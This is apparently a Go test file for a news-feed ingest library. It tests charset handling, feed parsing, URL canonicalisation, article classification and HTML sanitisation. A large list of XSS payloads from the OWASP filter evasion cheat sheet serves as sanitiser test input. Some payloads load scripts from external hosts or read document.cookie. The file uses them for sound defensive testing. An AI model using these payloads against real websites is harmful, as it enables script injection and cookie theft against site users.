package ingest_test

import (
	"errors"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/lagesbild/lagesbild/ingest"
	"golang.org/x/net/html"
)

func TestParseCharsets(t *testing.T) {
	tests := map[string]struct {
		fixture, wantTitle string
	}{
		"windows-1252 bytes 0x80–0x9F":            {"windows-1252.xml", "Räksmörgås för 49 € – „Åäö” … och Öl"},
		"prolog claims ISO-8859-1 over UTF-8":     {"utf8-claims-latin1.xml", "Räksmörgås för 49 € – „Åäö” … och Öl"},
		"charset only in the Content-Type header": {"charset-header-only.xml", "Räksmörgås för 49 € – „Åäö” … och Öl"},
		"UTF-8 BOM":                  {"bom-utf8.xml", "Över hälften väntade på åtgärd"},
		"UTF-16LE BOM":               {"bom-utf16le.xml", "Över hälften väntade på åtgärd"},
		"UTF-16BE BOM":               {"bom-utf16be.xml", "Över hälften väntade på åtgärd"},
		"illegal control characters": {"control-chars.xml", "Vårdcentralen stänger i dag"},
		"bare & and HTML entities":   {"bare-amp.xml", "Sjukvård & omsorg: Café med personalen… AT&T"},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			arts := parseFixture(t, tt.fixture)
			if len(arts) != 1 {
				t.Fatalf("%d items", len(arts))
			}
			a := arts[0]
			if a.Title != tt.wantTitle {
				t.Errorf("title %q, want %q", a.Title, tt.wantTitle)
			}
			for _, s := range []string{a.Title, a.Summary, a.Text} {
				if strings.Contains(s, "Ã") || strings.Contains(s, "\ufffd") || strings.ContainsAny(s, "\x00\x01\x08\x0b\x1f") {
					t.Errorf("mis-decoded text: %q", s)
				}
			}
		})
	}
	// The Latin-1 prolog is believed when the body is not UTF-8.
	if got := parseFixture(t, "windows-1252.xml")[0].Summary; got != "Priset är 49 €; citat: „så här” — tankstreck – slut…" {
		t.Errorf("summary %q", got)
	}
}

func TestToUTF8(t *testing.T) {
	tests := map[string]struct{ in, ct, want string }{
		"valid UTF-8 stays": {"<a>åäö</a>", "", "<a>åäö</a>"},
		"prolog rewritten":  {"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a>\xe5</a>", "", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><a>å</a>"},
		"header wins over prolog": {"<?xml version='1.0' encoding='utf-8'?><a>\x80</a>", "text/xml; charset=windows-1252",
			"<?xml version='1.0' encoding='utf-8'?><a>€</a>"},
		"mixed UTF-8 and Latin-1 bytes":            {"<a>å \xe4 \x96</a>", "", "<a>å ä –</a>"},
		"C1 controls in UTF-8 become windows-1252": {"<a>\u0080 \u0093x\u0094</a>", "", "<a>€ “x”</a>"},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			if got := string(ingest.ToUTF8([]byte(tt.in), tt.ct)); got != tt.want {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

func TestParseFormats(t *testing.T) {
	t.Run("RSS 0.91", func(t *testing.T) {
		a := parseFixture(t, "rss091.xml")
		if len(a) != 1 || a[0].URL != "http://lokalbladet.example/artikel/123" || a[0].GUID != a[0].URL || !a[0].PublishedEstimated {
			t.Errorf("got %+v", a)
		}
	})
	t.Run("RSS 1.0", func(t *testing.T) {
		a := parseFixture(t, "rss1.rdf")
		if len(a) != 1 || a[0].Author != "Per Påhittsson" || a[0].Categories != "Politik" ||
			a[0].PublishedAt.Format("2006-01-02T15:04Z07:00") != "2024-11-19T08:15Z" {
			t.Errorf("got %+v", a)
		}
	})
	t.Run("RSS 2.0", func(t *testing.T) {
		a := parseFixture(t, "rss2.xml")
		if len(a) != 3 {
			t.Fatalf("%d items", len(a))
		}
		first := a[0]
		if first.URL != "https://www.vastkustposten.example/nyheter/2024/11/18/journalsystemet-stoppade?a=1&b=2" {
			t.Errorf("canonical URL %q", first.URL)
		}
		if !strings.Contains(first.Summary, `href="https://www.vastkustposten.example/nyheter/bakgrund"`) ||
			!strings.Contains(first.Summary, `src="https://www.vastkustposten.example/bilder/sjukhus.jpg"`) {
			t.Errorf("relative links not resolved: %s", first.Summary)
		}
		if strings.Contains(first.Summary, "script") || strings.Contains(first.Summary, "onerror") {
			t.Errorf("not sanitised: %s", first.Summary)
		}
		if first.ImageURL != "https://bild.vastkustposten.example/stor/1001.jpg" || first.Author != "Anna Exempelsson" ||
			first.Kind != ingest.KindNews || first.Categories != "Nyheter; Sjukvård" {
			t.Errorf("got %+v", first)
		}
		if a[1].Kind != ingest.KindOpinion || a[1].ImageURL != "https://bild.vastkustposten.example/ledare.png" {
			t.Errorf("editorial: kind %s image %s", a[1].Kind, a[1].ImageURL)
		}
		if strings.Contains(a[2].Content, "javascript") || a[2].URL != "https://www.vastkustposten.example/nyheter/koerna-vaxer?id=7" {
			t.Errorf("third: %+v", a[2])
		}
	})
	t.Run("Atom with xml:base", func(t *testing.T) {
		a := parseFixture(t, "atom.xml")
		if len(a) != 2 {
			t.Fatalf("%d items", len(a))
		}
		if a[0].URL != "https://morgonbladet.example/debatt/2024/vi-orkar-inte-mer" {
			t.Errorf("xml:base link: %q", a[0].URL)
		}
		if !strings.Contains(a[0].Content, `href="https://morgonbladet.example/debatt/2024/bakgrund"`) ||
			a[0].ImageURL != "https://morgonbladet.example/debatt/2024/bild.jpg" {
			t.Errorf("xml:base content: %s / %s", a[0].Content, a[0].ImageURL)
		}
		if a[0].Title != "Vi som jobbar i vården orkar inte mer" || a[0].Kind != ingest.KindOpinion {
			t.Errorf("title %q kind %s", a[0].Title, a[0].Kind)
		}
		if a[1].PublishedAt.Format("15:04") != "09:00" || a[1].Author != "Redaktionen" {
			t.Errorf("published (not updated) wins: %v, author %q", a[1].PublishedAt, a[1].Author)
		}
	})
	t.Run("JSON Feed", func(t *testing.T) {
		a := parseFixture(t, "feed.json")
		if len(a) != 2 {
			t.Fatalf("%d items", len(a))
		}
		if a[0].URL != "https://bulletinen.example/nyheter/55" || a[0].ImageURL != "https://bulletinen.example/bilder/55.jpg" ||
			strings.Contains(a[0].Content, "iframe") || a[0].Kind != ingest.KindOpinion || a[0].Author != "Olle Påhittad" {
			t.Errorf("got %+v", a[0])
		}
		if a[1].PublishedEstimated || a[1].Title == "" {
			t.Errorf("date_modified as the date, title from text: %+v", a[1])
		}
	})
	t.Run("the same guid on every item", func(t *testing.T) {
		a := parseFixture(t, "same-guid.xml")
		seen := map[string]bool{}
		for _, x := range a {
			if seen[x.GUID] {
				t.Errorf("guid %q twice", x.GUID)
			}
			seen[x.GUID] = true
		}
		if len(seen) != 3 {
			t.Errorf("%d distinct items, want 3", len(seen))
		}
	})
}

func TestParseHTMLInsteadOfFeed(t *testing.T) {
	body, _ := os.ReadFile("testdata/html-page.html")
	_, err := ingest.Parse(body, "text/html")
	if !errors.Is(err, ingest.ErrNotAFeed) || !strings.Contains(err.Error(), "HTML") ||
		!strings.Contains(err.Error(), "https://www.vastkustposten.example/rss/nyheter") {
		t.Errorf("got %v", err)
	}
	for _, junk := range []string{"", "hej", "{}", "<foo/>", "\x00\x01"} {
		if _, err := ingest.Parse([]byte(junk), ""); err == nil {
			t.Errorf("Parse(%q) accepted", junk)
		}
	}
}

func TestCanonicalURL(t *testing.T) {
	tests := map[string]string{
		"HTTPS://WWW.Exempel.SE:443/Nyheter/A?utm_source=x&b=2&a=1#top": "https://www.exempel.se/Nyheter/A?a=1&b=2",
		"http://exempel.se:80": "http://exempel.se/",
		"https://exempel.se/a?fbclid=1&gclid=2&mc_cid=3&mc_eid=4&ref=rss": "https://exempel.se/a",
		"https://exempel.se/a?UTM_Medium=x&id=5":                          "https://exempel.se/a?id=5",
		"https://exempel.se:8443/a":                                       "https://exempel.se:8443/a",
		"javascript:alert(1)":                                             "",
		"/relative":                                                       "",
		"ftp://exempel.se/fil":                                            "",
		"https://user:pass@exempel.se/a":                                  "https://exempel.se/a",
	}
	for in, want := range tests {
		if got := ingest.CanonicalURL(in); got != want {
			t.Errorf("CanonicalURL(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestClassifyKind(t *testing.T) {
	tests := map[string]struct {
		feed  ingest.Kind
		cats  []string
		link  string
		title string
		want  ingest.Kind
	}{
		"plain news":                 {ingest.KindNews, []string{"Nyheter"}, "https://a.se/nyheter/1", "Rubrik", ingest.KindNews},
		"category Ledare":            {ingest.KindNews, []string{"Ledare"}, "https://a.se/1", "Rubrik", ingest.KindOpinion},
		"category Debatt":            {ingest.KindNews, []string{"DEBATT"}, "", "", ingest.KindOpinion},
		"category Krönika":           {ingest.KindNews, []string{"Krönika"}, "", "", ingest.KindOpinion},
		"category Kultur":            {ingest.KindNews, []string{"Kultur & nöje"}, "", "", ingest.KindOpinion},
		"category Insändare":         {ingest.KindNews, []string{"Insändare"}, "", "", ingest.KindOpinion},
		"category Signerat":          {ingest.KindNews, []string{"Signerat"}, "", "", ingest.KindOpinion},
		"category Opinion/Ledare":    {ingest.KindNews, []string{"Opinion/Ledare"}, "", "", ingest.KindOpinion},
		"path /ledare/":              {ingest.KindNews, nil, "https://a.se/ledare/x", "", ingest.KindOpinion},
		"path /debatt/":              {ingest.KindNews, nil, "https://a.se/debatt/x", "", ingest.KindOpinion},
		"path /kronika/":             {ingest.KindNews, nil, "https://a.se/kronika/x", "", ingest.KindOpinion},
		"path /kultur/":              {ingest.KindNews, nil, "https://a.se/kultur/x", "", ingest.KindOpinion},
		"path /opinion/":             {ingest.KindNews, nil, "https://a.se/opinion/x", "", ingest.KindOpinion},
		"title prefix":               {ingest.KindNews, nil, "", "Debatt: Vi kräver svar", ingest.KindOpinion},
		"word inside a path segment": {ingest.KindNews, nil, "https://a.se/nyheter/debatten-om-vard", "", ingest.KindNews},
		"the word in a title":        {ingest.KindNews, nil, "", "Ledaren för partiet avgår", ingest.KindNews},
		"own feed stays own":         {ingest.KindOwn, []string{"Debatt"}, "https://a.se/debatt/x", "", ingest.KindOwn},
		"opinion feed stays opinion": {ingest.KindOpinion, []string{"Nyheter"}, "", "", ingest.KindOpinion},
		"no feed kind defaults news": {"", nil, "", "", ingest.KindNews},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			if got := ingest.ClassifyKind(tt.feed, tt.cats, tt.link, tt.title); got != tt.want {
				t.Errorf("got %s, want %s", got, tt.want)
			}
		})
	}
}

func TestPlainText(t *testing.T) {
	tests := map[string]string{
		"<p>Hej&nbsp;på   dig</p><p>Nästa</p>":            "Hej på dig Nästa",
		"R&amp;D &lt;3 &eacute;":                          "R&D <3 é",
		"<script>alert(1)</script>Text<style>p{}</style>": "Text",
		"rad ett<br>rad två":                              "rad ett rad två",
		"  \n\t ":                                         "",
	}
	for in, want := range tests {
		if got := ingest.PlainText(in); got != want {
			t.Errorf("PlainText(%q) = %q, want %q", in, got, want)
		}
	}
}

// owaspVectors are from the OWASP XSS Filter Evasion Cheat Sheet.
var owaspVectors = []string{
	`<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`,
	`javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
	`<IMG SRC="javascript:alert('XSS');">`,
	`<IMG SRC=javascript:alert('XSS')>`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	"<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
	"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
	`<a onmouseover="alert(document.cookie)">xxs link</a>`,
	`<a onmouseover=alert(document.cookie)>xxs link</a>`,
	`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`,
	`<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
	`<IMG SRC=# onmouseover="alert('xxs')">`,
	`<IMG SRC= onmouseover="alert('xxs')">`,
	`<IMG onmouseover="alert('xxs')">`,
	`<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
	`<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
	`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
	`<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
	`<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
	`<IMG SRC="jav	ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
	"<IMG SRC=\"java\x00script:alert('XSS');\">",
	`<IMG SRC=" &#14;  javascript:alert('XSS');">`,
	`<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
	"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
	`<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`,
	`<<SCRIPT>alert("XSS");//\<</SCRIPT>`,
	`<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
	`<SCRIPT SRC=//xss.rocks/.j>`,
	`<IMG SRC="` + "`" + `javascript:alert('XSS')"`,
	`<iframe src=http://xss.rocks/scriptlet.html <`,
	`\";alert('XSS');//`,
	`</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
	`<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
	`<BODY BACKGROUND="javascript:alert('XSS')">`,
	`<IMG DYNSRC="javascript:alert('XSS')">`,
	`<IMG LOWSRC="javascript:alert('XSS')">`,
	`<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
	`<IMG SRC='vbscript:msgbox("XSS")'>`,
	`<svg/onload=alert('XSS')>`,
	`<BODY ONLOAD=alert('XSS')>`,
	`<BGSOUND SRC="javascript:alert('XSS');">`,
	`<BR SIZE="&{alert('XSS')}">`,
	`<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
	`<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
	`<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
	`<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
	`<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
	`<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
	`<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
	`<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
	`<TABLE BACKGROUND="javascript:alert('XSS')">`,
	`<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
	`<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
	`<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">`,
	`<DIV STYLE="width: expression(alert('XSS'));">`,
	`<BASE HREF="javascript:alert('XSS');//">`,
	`<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
	`<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
	`<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
	`<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
	`<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>`,
	`<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<a href="  JaVaScRiPt:alert(1)">x</a>`,
	`<a href="java&#115;cript:alert(1)">x</a>`,
	`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
	`<form action="javascript:alert(1)"><button>x</button></form>`,
	`<details open ontoggle=alert(1)>`,
	`<xss onafterscriptexecute=alert(1)><script>1</script>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`,
}

// assertSafeHTML fails when HTML could run script in a browser.
func assertSafeHTML(t testing.TB, in, out string) {
	t.Helper()
	if strings.Contains(strings.ToLower(out), "<script") {
		t.Errorf("<script survives\n in: %s\nout: %s", in, out)
	}
	z := html.NewTokenizer(strings.NewReader(out))
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			return
		}
		if tt != html.StartTagToken && tt != html.SelfClosingTagToken {
			continue
		}
		tok := z.Token()
		switch tok.Data {
		case "script", "style", "iframe", "frame", "frameset", "object", "embed", "svg", "math", "form", "input",
			"button", "base", "link", "meta", "body", "bgsound", "xss":
			t.Errorf("element <%s> survives\n in: %s\nout: %s", tok.Data, in, out)
		}
		for _, a := range tok.Attr {
			key := strings.ToLower(a.Key)
			if strings.HasPrefix(key, "on") || key == "style" || key == "background" || key == "dynsrc" || key == "lowsrc" {
				t.Errorf("attribute %s survives\n in: %s\nout: %s", a.Key, in, out)
			}
			if key == "href" || key == "src" || key == "cite" || key == "action" || key == "xlink:href" {
				v := strings.ToLower(strings.TrimSpace(a.Val))
				if u, err := url.Parse(v); err == nil && u.Scheme != "" && u.Scheme != "http" && u.Scheme != "https" && u.Scheme != "mailto" {
					t.Errorf("URL scheme %q survives\n in: %s\nout: %s", u.Scheme, in, out)
				}
				if strings.Contains(v, "script:") || strings.HasPrefix(v, "data:") {
					t.Errorf("script URL survives\n in: %s\nout: %s", in, out)
				}
			}
		}
	}
}

func TestSanitizeOWASPVectors(t *testing.T) {
	base, _ := url.Parse("https://exempelposten.example/nyheter/1")
	for _, v := range owaspVectors {
		assertSafeHTML(t, v, ingest.SanitizeHTML(v, base))
		assertSafeHTML(t, v, ingest.SanitizeHTML(v, nil))
	}
	// Harmless markup survives.
	got := ingest.SanitizeHTML(`<p>Hej <a href="/a">länk</a> <img src="b.jpg" alt="x"></p>`, base)
	if !strings.Contains(got, `<a href="https://exempelposten.example/a"`) || !strings.Contains(got, `src="https://exempelposten.example/nyheter/b.jpg"`) {
		t.Errorf("harmless markup: %s", got)
	}
}

// The same vectors through a whole feed: as HTML in descriptions, as links.
func TestNormalizeOWASPVectorsInFeed(t *testing.T) {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>X</title>`)
	for i, v := range owaspVectors {
		esc := html.EscapeString(v)
		b.WriteString("<item><guid>" + string(rune('a'+i%26)) + strings.Repeat("x", i) + "</guid><title>" + esc +
			"</title><link>" + esc + "</link><description>" + esc + "</description></item>")
	}
	b.WriteString(`</channel></rss>`)
	doc, err := ingest.Parse([]byte(b.String()), "")
	if err != nil {
		t.Fatal(err)
	}
	arts := ingest.NormalizeFeed(doc, ingest.NormalizeOptions{FeedURL: "https://x.example/rss", Kind: ingest.KindNews})
	if len(arts) != len(owaspVectors) {
		t.Fatalf("%d items, want %d", len(arts), len(owaspVectors))
	}
	for _, a := range arts {
		assertSafeArticle(t, a)
	}
}

func assertSafeArticle(t testing.TB, a ingest.Article) {
	t.Helper()
	assertSafeHTML(t, a.Summary, a.Summary)
	assertSafeHTML(t, a.Content, a.Content)
	for _, u := range []string{a.URL, a.ImageURL} {
		if u != "" && !strings.HasPrefix(u, "http://") && !strings.HasPrefix(u, "https://") {
			t.Errorf("URL %q", u)
		}
	}
}

func FuzzNormalize(f *testing.F) {
	names, _ := filepath.Glob("testdata/*")
	for _, n := range names {
		if strings.HasSuffix(n, ".golden.json") {
			continue
		}
		b, err := os.ReadFile(n)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b, fixtureContentType(filepath.Base(n)))
	}
	for _, v := range owaspVectors[:10] {
		f.Add([]byte(`<rss version="2.0"><channel><item><title>t</title><description>`+html.EscapeString(v)+
			`</description><link>`+html.EscapeString(v)+`</link></item></channel></rss>`), "")
	}
	f.Fuzz(func(t *testing.T, body []byte, contentType string) {
		doc, err := ingest.Parse(body, contentType)
		if err != nil {
			return
		}
		for _, a := range ingest.NormalizeFeed(doc, ingest.NormalizeOptions{FeedURL: "https://x.example/", Kind: ingest.KindNews, Seen: fixtureSeen}) {
			assertSafeArticle(t, a)
			for _, s := range []string{a.Summary, a.Content} {
				if strings.Contains(strings.ToLower(s), "<script") {
					t.Fatalf("<script in %q", s)
				}
			}
		}
	})
}
